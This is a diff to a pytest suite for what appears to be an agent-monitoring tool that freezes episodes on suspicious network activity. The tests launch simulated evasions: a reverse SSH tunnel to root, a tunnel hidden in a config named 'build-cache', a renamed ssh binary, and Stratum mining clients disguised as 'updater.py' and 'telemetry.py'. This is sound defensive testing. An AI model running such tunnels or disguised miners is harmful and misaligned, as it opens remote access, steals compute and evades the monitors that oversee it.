@@ -12,6 +12,7 @@ from pathlib import Path
 
 import pytest
 
+from agentprobe.cgroups import remove_cgroup_tree
 from agentprobe.lab import Internet
 from agentprobe.stream import StreamError, read_records
 
@@ -27,7 +28,7 @@ def net():
 @pytest.fixture(scope="module")
 def agents(tmp_path_factory):
     """The watched parent cgroup and the watcher on it (module-wide)."""
-    from conftest import Cgroup, remove_cgroup_tree
+    from conftest import Cgroup
     from watcher import WatcherProcess
 
     from agentprobe.cgroups import find_v2_mount
@@ -95,6 +96,14 @@ def wait_records(out, ep, pred, timeout=10.0):
     return for_episode(out, ep)
 
 
+def attack(agents, episode, argv) -> tuple:
+    """Start an attack in the episode, wait for the freeze and its response record."""
+    _, out, _ = agents
+    p = episode.popen(argv)
+    assert wait_frozen(episode)
+    return p, wait_records(out, episode, lambda rs: any(r["type"] == "response" for r in rs))
+
+
 def response(recs) -> dict:
     """The first response; any later one for the same episode finds it already frozen."""
     first, *rest = [r for r in recs if r["type"] == "response"]
@@ -104,10 +113,7 @@ def response(recs) -> dict:
 
 # ---------------------------------------------------------------- tunnels
 def test_reverse_ssh_tunnel_is_frozen_before_use(agents, episode, net):
-    _, out, _ = agents
-    p = episode.popen(net.ssh_argv("-N", "-R", "9000:127.0.0.1:22", f"root@{net.addr}"))
-    assert wait_frozen(episode)
-    recs = wait_records(out, episode, lambda rs: any(r["type"] == "response" for r in rs))
+    p, recs = attack(agents, episode, net.ssh_argv("-N", "-R", "9000:127.0.0.1:22", f"root@{net.addr}"))
     assert "ssh_port_forwarding" in alerts(recs)
     (alert,) = [r for r in recs if r["type"] == "alert" and r["rule"] == "ssh_port_forwarding"]
     assert alert["action"] == "freeze" and alert["priority"] == "critical" and "T1572" in alert["mitre"]
@@ -121,14 +127,11 @@ def test_reverse_ssh_tunnel_is_frozen_before_use(agents, episode, net):
 
 
 def test_tunnel_hidden_in_a_config_file(agents, episode, net, tmp_path):
-    _, out, _ = agents
     cfg = tmp_path / "cfg"
     cfg.write_text(f"Host build-cache\n  HostName {net.addr}\n  User root\n  IdentityFile {net.dir / 'user_key'}\n"
                    "  RemoteForward 9001 127.0.0.1:22\n  StrictHostKeyChecking no\n"
                    "  UserKnownHostsFile /dev/null\n  BatchMode yes\n")
-    p = episode.popen(["ssh", "-F", str(cfg), "-N", "build-cache"])
-    assert wait_frozen(episode)
-    recs = wait_records(out, episode, lambda rs: any(r["type"] == "response" for r in rs))
+    p, recs = attack(agents, episode, ["ssh", "-F", str(cfg), "-N", "build-cache"])
     assert "interactive_session_outside_allowlist" in alerts(recs)
     assert response(recs)["outcome"] == "frozen"
     time.sleep(1.5)
@@ -137,12 +140,9 @@ def test_tunnel_hidden_in_a_config_file(agents, episode, net, tmp_path):
 
 
 def test_renamed_ssh_client(agents, episode, net, tmp_path):
-    _, out, _ = agents
     renamed = tmp_path / "cache-sync"
     shutil.copy(shutil.which("ssh"), renamed)
-    p = episode.popen(net.ssh_argv("-N", f"root@{net.addr}", client=str(renamed)))
-    assert wait_frozen(episode)
-    recs = wait_records(out, episode, lambda rs: any(r["type"] == "response" for r in rs))
+    p, recs = attack(agents, episode, net.ssh_argv("-N", f"root@{net.addr}", client=str(renamed)))
     assert "interactive_session_outside_allowlist" in alerts(recs)
     p.kill()
 
@@ -158,12 +158,9 @@ time.sleep(30)
 
 def test_ssh_spoken_by_any_program_on_any_port(agents, episode, net, tmp_path):
     """No ssh binary, no SSH port: the first bytes give it away."""
-    _, out, _ = agents
     script = tmp_path / "sync.py"
     script.write_text(SSH_SPEAKER)
-    p = episode.popen([sys.executable, str(script), net.addr, str(net.SSH_ALT_PORT)])
-    assert wait_frozen(episode)
-    recs = wait_records(out, episode, lambda rs: any(r["type"] == "response" for r in rs))
+    p, recs = attack(agents, episode, [sys.executable, str(script), net.addr, str(net.SSH_ALT_PORT)])
     assert alerts(recs) == ["ssh_protocol_outside_allowlist"]
     (payload,) = [r for r in recs if r["type"] == "payload"]
     assert (payload["address"], payload["port"], payload["app"], payload["proc"]["pid"]) == (
@@ -184,12 +181,9 @@ time.sleep(30)
 
 
 def test_process_named_like_no_miner_speaking_stratum(agents, episode, net, tmp_path):
-    _, out, _ = agents
     script = tmp_path / "updater.py"
     script.write_text(STRATUM_CLIENT)
-    p = episode.popen([sys.executable, str(script), net.addr, str(net.pool_port)])
-    assert wait_frozen(episode)
-    recs = wait_records(out, episode, lambda rs: any(r["type"] == "response" for r in rs))
+    p, recs = attack(agents, episode, [sys.executable, str(script), net.addr, str(net.pool_port)])
     assert "mining_pool_connection" in alerts(recs)
     assert response(recs)["outcome"] == "frozen"
     # refused in the kernel before any packet: the pool never heard from it
@@ -199,12 +193,9 @@ def test_process_named_like_no_miner_speaking_stratum(agents, episode, net, tmp_
 
 
 def test_stratum_on_a_web_port(agents, episode, net, tmp_path):
-    _, out, _ = agents
     script = tmp_path / "telemetry.py"
     script.write_text(STRATUM_CLIENT)
-    p = episode.popen([sys.executable, str(script), net.addr, str(net.POOL_ALT_PORT)])
-    assert wait_frozen(episode)
-    recs = wait_records(out, episode, lambda rs: any(r["type"] == "response" for r in rs))
+    p, recs = attack(agents, episode, [sys.executable, str(script), net.addr, str(net.POOL_ALT_PORT)])
     assert alerts(recs) == ["stratum_protocol"]
     (alert,) = [r for r in recs if r["type"] == "alert"]
     assert alert["evidence"][0]["method"] == "mining.subscribe" and "T1496" in alert["mitre"]
